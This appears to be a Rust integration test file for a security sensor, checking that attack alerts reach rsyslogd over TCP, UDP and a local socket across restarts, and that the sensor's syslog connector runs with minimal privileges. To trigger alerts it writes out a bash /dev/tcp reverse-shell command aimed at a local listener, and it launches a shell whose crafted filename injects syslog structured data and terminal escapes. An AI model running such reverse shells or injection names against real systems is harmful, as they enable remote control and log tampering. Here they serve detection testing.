//! Alerts on real attacks reach a real rsyslogd by each way, over its restarts; and the connector that makes the
//! connections is as small as is said, and its end is no one else's.

use std::{
    collections::BTreeMap,
    fs::{self, Permissions},
    net::TcpListener,
    os::unix::fs::PermissionsExt as _,
    process::{Child, Command, Output, Stdio},
};

use nix::sys::signal::Signal;
use sentinel_tests::{
    bed::Bed,
    nspawn::Machine,
    peer::{self, Peer, free_port},
    rsyslogd::Rsyslogd,
    sentinel::{PATIENCE, Sentinel, alerts, children, is_running, program, send, within},
};
use serde_json::Value;

/// A reverse shell, and its alert in the log.
fn attack(bed: &Bed, sentinel: &Sentinel) {
    let peer = Peer::listen("127.0.0.1");
    let child = peer::reverse_shell(bed, &peer);
    is_found(sentinel, &peer, child);
}

/// The same by a shell whose name is made to pass for other structured data.
fn attack_by_evil_name(bed: &Bed, sentinel: &Sentinel) {
    let shell = bed.path("\"] [x@1 a=\\\"b\\\n\u{1b}[2J sh");
    fs::copy("/bin/bash", &shell).unwrap();
    let peer = Peer::listen("127.0.0.1");
    let code = format!("exec \"$0\" >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
    let mut command = bed.command(&shell);
    command.arg("-c").arg(code).arg(&shell).stdin(Stdio::null()).stderr(Stdio::null());
    is_found(sentinel, &peer, command.spawn().unwrap());
}

fn is_found(sentinel: &Sentinel, peer: &Peer, mut child: Child) {
    let mut shell = peer.shell();
    shell.pid();
    shell.exit();
    child.wait().unwrap();
    let is_told = || alerts(sentinel.log()).iter().any(|alert| alert["pid"] == child.id());
    assert!(within(PATIENCE, is_told), "no alert");
}

/// Facts of each message, as rsyslog found them.
const FACTS: &str = r#"template(name="facts" type="string" string="%syslogfacility-text%.%syslogseverity-text%|%programname%|%procid%|%structured-data%|%msg%\n")"#;

/// A bed that others may enter, as the connector, who is not root, must.
fn open_bed() -> Option<Bed> {
    let bed = Bed::new().filter(|_| Rsyslogd::is_there())?;
    fs::set_permissions(bed.path(""), Permissions::from_mode(0o755)).unwrap();
    Some(bed)
}

/// The values of structured data as RFC 5424, section 6.3, writes them.
fn values(data: &str) -> BTreeMap<String, String> {
    let inside = data.strip_prefix("[sentinel@32473 ").and_then(|rest| rest.strip_suffix(']'));
    let mut rest = inside.unwrap_or_else(|| panic!("{data}"));
    let mut values = BTreeMap::new();
    while let Some((name, behind)) = rest.split_once("=\"") {
        let (mut value, mut characters) = (String::new(), behind.char_indices());
        let end = loop {
            match characters.next().unwrap() {
                (_, '\\') => value.push(characters.next().unwrap().1),
                (at, '"') => break at,
                (_, character) => value.push(character),
            }
        };
        values.insert(name.to_owned(), value);
        rest = behind[end + 1..].trim_start();
    }
    values
}

fn is_told_in(alert: &Value, line: &str, analyzer: u32) {
    let fields: Vec<_> = line.splitn(5, '|').collect();
    let severity = match alert["severity"].as_str().unwrap() {
        "critical" => "crit",
        "high" => "err",
        "warning" => "warning",
        other => other,
    };
    assert_eq!(fields[0], format!("authpriv.{severity}"), "{line}");
    assert_eq!([fields[1], fields[2]], ["sentinel", &analyzer.to_string()], "{line}");
    let found = values(fields[3]);
    for (name, key) in
        [("rule", "pattern_name"), ("severity", "severity"), ("exe", "exe"), ("action", "action")]
    {
        assert_eq!(found[name], alert[key].as_str().unwrap(), "{line}");
    }
    assert_eq!(found["pid"], alert["pid"].to_string(), "{line}");
    assert_eq!(found.len(), 5, "{line}");
    assert!(fields[4].contains(alert["message"].as_str().unwrap()), "{line}");
}

/// Alerts before, during and after an absence of rsyslogd; each arrives once, and in order.
fn survives_a_restart(bed: &Bed, input: &str, target: &str) -> (Vec<String>, Vec<Value>, u32) {
    let filed = bed.path("filed");
    let configuration = format!(
        "{input}\n{FACTS}\nauthpriv.* action(type=\"omfile\" file=\"{}\" template=\"facts\")",
        filed.display()
    );
    let mut daemon = Rsyslogd::start(bed, "rsyslogd", &configuration);
    let target = format!("--syslog={target}");
    let sentinel = Sentinel::start(bed, &["--enable-syslog", &target]);
    let analyzer = sentinel.pid();
    let lines = || fs::read_to_string(&filed).unwrap_or_default();
    let arrived = |sentinel: &Sentinel| {
        let count = alerts(sentinel.log()).len();
        assert!(within(PATIENCE, || lines().lines().count() >= count), "{}", lines());
    };
    attack(bed, &sentinel);
    arrived(&sentinel);
    daemon.end();
    let before = lines();
    attack(bed, &sentinel);
    attack(bed, &sentinel);
    assert_eq!(lines(), before, "nobody is there");
    daemon.begin();
    arrived(&sentinel);
    attack_by_evil_name(bed, &sentinel);
    arrived(&sentinel);
    let outcome = sentinel.stop();
    let are_written = || lines().lines().count() >= outcome.alerts.len();
    assert!(within(PATIENCE, are_written), "{}", lines());
    assert!(outcome.errors.contains("no connection to syslog at "), "{}", outcome.errors);
    assert!(!outcome.errors.contains("did not reach"), "{}", outcome.errors);
    let lines: Vec<_> = lines().lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), outcome.alerts.len(), "{lines:#?}");
    assert!(lines.len() >= 4, "{lines:#?}");
    let names = outcome.alerts.iter().filter_map(|alert| alert["exe"].as_str());
    assert!(names.into_iter().any(|name| name.contains("\"] [x@1 ")), "{:#?}", outcome.alerts);
    (lines, outcome.alerts, analyzer)
}

#[test]
fn over_tcp_alerts_arrive_whole_and_once_over_a_restart_of_rsyslogd() {
    let Some(bed) = open_bed() else { return };
    let port = free_port();
    let input = format!(
        "module(load=\"imtcp\")\ninput(type=\"imtcp\" address=\"127.0.0.1\" port=\"{port}\")"
    );
    let (lines, alerts, analyzer) =
        survives_a_restart(&bed, &input, &format!("tcp:127.0.0.1:{port}"));
    lines.iter().zip(&alerts).for_each(|(line, alert)| is_told_in(alert, line, analyzer));
}

#[test]
fn over_udp_alerts_arrive_over_a_restart_of_rsyslogd() {
    let Some(bed) = open_bed() else { return };
    let port = free_port();
    let input = format!(
        "module(load=\"imudp\")\ninput(type=\"imudp\" address=\"127.0.0.1\" port=\"{port}\")"
    );
    let (lines, alerts, analyzer) =
        // Of which there may be an address that nobody listens at.
        survives_a_restart(&bed, &input, &format!("udp:localhost:{port}"));
    lines.iter().zip(&alerts).for_each(|(line, alert)| is_told_in(alert, line, analyzer));
}

#[test]
fn over_a_local_socket_alerts_arrive_over_a_restart_of_rsyslogd() {
    let Some(bed) = open_bed() else { return };
    let socket = bed.path("log");
    let input = format!(
        "module(load=\"imuxsock\" SysSock.Use=\"off\")\ninput(type=\"imuxsock\" Socket=\"{}\" \
         RateLimit.Interval=\"0\")",
        socket.display()
    );
    let target = format!("unix:{}", socket.display());
    let (lines, alerts, analyzer) = survives_a_restart(&bed, &input, &target);
    for (line, alert) in lines.iter().zip(&alerts) {
        let fields: Vec<_> = line.splitn(5, '|').collect();
        assert_eq!(fields[1..4], ["sentinel", &analyzer.to_string(), "-"], "{line}");
        assert!(fields[4].contains(alert["message"].as_str().unwrap()), "{line}");
    }
}

/// The connector of a Sentinel.
fn connector_of(sentinel: &Sentinel) -> u32 {
    let name = |pid: &u32| fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
    let found = children(sentinel.pid()).into_iter().find(|pid| name(pid) == "sentinel-syslog\n");
    found.expect("a connector")
}

#[test]
fn a_server_that_never_reads_holds_nothing_up() {
    let Some(bed) = open_bed() else { return };
    let server = TcpListener::bind("[::1]:0").unwrap();
    let target = format!("--syslog=tcp:{}", server.local_addr().unwrap());
    let sentinel = Sentinel::start(&bed, &["--enable-syslog", &target]);
    let (_silent, _) = server.accept().unwrap();
    attack(&bed, &sentinel);
    let outcome = sentinel.stop();
    assert!(outcome.alerts.iter().any(|alert| alert["severity"] == "critical"));
}

#[test]
fn the_connector_has_what_the_table_says_and_ends_with_the_analyzer() {
    let Some(bed) = open_bed() else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let target = format!("--syslog=tcp:{}", server.local_addr().unwrap());
    for signal in [Signal::SIGINT, Signal::SIGKILL] {
        let sentinel = Sentinel::start(&bed, &["--enable-syslog", &target]);
        let (analyzer, connector) = (sentinel.pid(), connector_of(&sentinel));
        let field = |pid: u32, name: &str| {
            let text = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
            let line = text.lines().find_map(|line| line.strip_prefix(name)).unwrap();
            line.split_whitespace().map(str::to_owned).collect::<Vec<_>>()
        };
        for name in ["Uid:", "Gid:"] {
            assert_eq!(field(connector, name), field(analyzer, name));
            assert_ne!(field(connector, name)[0], "0");
        }
        for set in ["CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"] {
            assert_eq!(field(connector, set), ["0000000000000000"], "{set}");
        }
        assert_eq!([field(connector, "NoNewPrivs:"), field(connector, "Seccomp:")], [["1"], ["2"]]);
        assert_eq!(field(connector, "Groups:"), [""; 0]);
        let mut held = Vec::new();
        for entry in fs::read_dir(format!("/proc/{connector}/fd")).unwrap().flatten() {
            let target = fs::read_link(entry.path()).unwrap();
            held.push((entry.file_name(), target.to_string_lossy().into_owned()));
        }
        held.sort();
        assert_eq!(held.len(), 3, "nothing but its standard streams: {held:?}");
        for ((_, found), kind) in held.iter().zip(["socket:", "/dev/null", "pipe:"]) {
            assert!(found.starts_with(kind), "{held:?}");
        }
        assert!(is_running(connector));
        send(analyzer, signal);
        assert!(within(PATIENCE, || !is_running(connector)), "it outlives {signal}");
    }
}

#[test]
fn an_analyzer_outlives_its_connector_and_says_so() {
    let Some(bed) = open_bed() else { return };
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let target = format!("--syslog=tcp:{}", server.local_addr().unwrap());
    let sentinel = Sentinel::start(&bed, &["--enable-syslog", &target]);
    let (connection, _) = server.accept().unwrap();
    send(connector_of(&sentinel), Signal::SIGKILL);
    // What is connected stays so.
    attack(&bed, &sentinel);
    let mut byte = [0];
    assert_eq!(std::io::Read::read(&mut &connection, &mut byte).unwrap(), 1);
    drop(connection);
    drop(server);
    attack(&bed, &sentinel);
    let outcome = sentinel.stop();
    assert!(outcome.status.success(), "{outcome:?}");
    let told = &outcome.errors;
    assert!(told.contains("the connector is gone: it has ended (SIGKILL)"), "{told}");
    assert!(told.contains("restart Sentinel"), "{told}");
    assert!(told.contains("did not reach syslog at tcp:"), "{told}");
}

fn run(bed: &Bed, target: &str) -> Output {
    let scope = format!("--scope-cgroup={}", bed.cgroup().display());
    let target = format!("--syslog={target}");
    Command::new(program())
        .args(["run", &scope, "--enable-syslog", &target, "--duration=1"])
        .output()
        .unwrap()
}

#[test]
fn a_server_that_cannot_be_had_is_told_before_anything_starts() {
    let Some(bed) = open_bed() else { return };
    let closed = format!("tcp:127.0.0.1:{}", free_port());
    for (target, words) in [
        (closed.as_str(), "Connection refused; is a syslog daemon running there?"),
        ("udp:nobody.invalid:514", "nobody knows an address of that name"),
    ] {
        let output = run(&bed, target);
        assert_eq!(output.status.code(), Some(1), "{target}");
        let errors = String::from_utf8_lossy(&output.stderr);
        let wanted = format!("cannot send to syslog at {target}: {words}");
        assert!(errors.contains(&wanted), "{errors}");
    }
}

#[test]
fn the_service_reaches_a_server_with_the_drop_in_and_watches_without() {
    const UNIT: &str = "sentinel-analyzer.service";
    let Some(machine) = Machine::installed() else { return };
    let server = "module(load=\"imtcp\")\n\
                  input(type=\"imtcp\" address=\"127.0.0.1\" port=\"10514\" ruleset=\"s\")\n\
                  template(name=\"s\" type=\"string\" string=\"%structured-data%%msg%\\n\")\n\
                  ruleset(name=\"s\") { action(type=\"omfile\" file=\"/var/log/s\" template=\"s\") }\n";
    machine.write("/etc/rsyslog.d/server.conf", server);
    machine.told(&["systemctl", "restart", "rsyslog"]);
    let file = "/etc/sentinel/analyzer.toml";
    let text = machine
        .read(file)
        .replace("#syslog = \"unix:/dev/log\"", "syslog = \"tcp:127.0.0.1:10514\"");
    machine.write(file, &text);
    machine.told(&["systemctl", "start", "sentinel.target"]);
    let state = || -> Value {
        let told = machine.run(&["sentinel", "status", "--json"]);
        serde_json::from_slice(&told.stdout).unwrap_or_default()
    };
    assert!(within(PATIENCE, || state()["is_watching"] == true), "{}", state());
    machine.wait_for(UNIT, "network-syslog.conf");
    assert_eq!(state()["syslog"]["is_connected"], false);

    let example = sentinel_tests::nspawn::packaging("systemd/examples/network-syslog.conf");
    let drop_in = fs::read_to_string(example).unwrap();
    assert!(drop_in.contains("IPAddressAllow=192.0.2.1"), "{drop_in}");
    let drop_in = drop_in.replace("IPAddressAllow=192.0.2.1", "IPAddressAllow=127.0.0.1");
    machine.write(&format!("/etc/systemd/system/{UNIT}.d/network-syslog.conf"), &drop_in);
    machine.told(&["systemctl", "daemon-reload"]);
    machine.told(&["systemctl", "restart", UNIT]);
    assert!(within(PATIENCE, || state()["syslog"]["is_connected"] == true), "{}", state());
    assert_eq!(state()["syslog"]["target"], "tcp:127.0.0.1:10514");
    // The gap that the restart made is an alert, and waits for its connection.
    let filed =
        || String::from_utf8_lossy(&machine.run(&["cat", "/var/log/s"]).stdout).into_owned();
    assert!(within(PATIENCE, || filed().contains("rule=\"sensor_gap\"")), "{}", filed());
    machine.told(&["systemctl", "stop", "sentinel.target"]);
    let ended = || machine.property(UNIT, "ActiveState") == "inactive";
    assert!(within(PATIENCE, ended) && machine.property(UNIT, "Result") == "success");
}
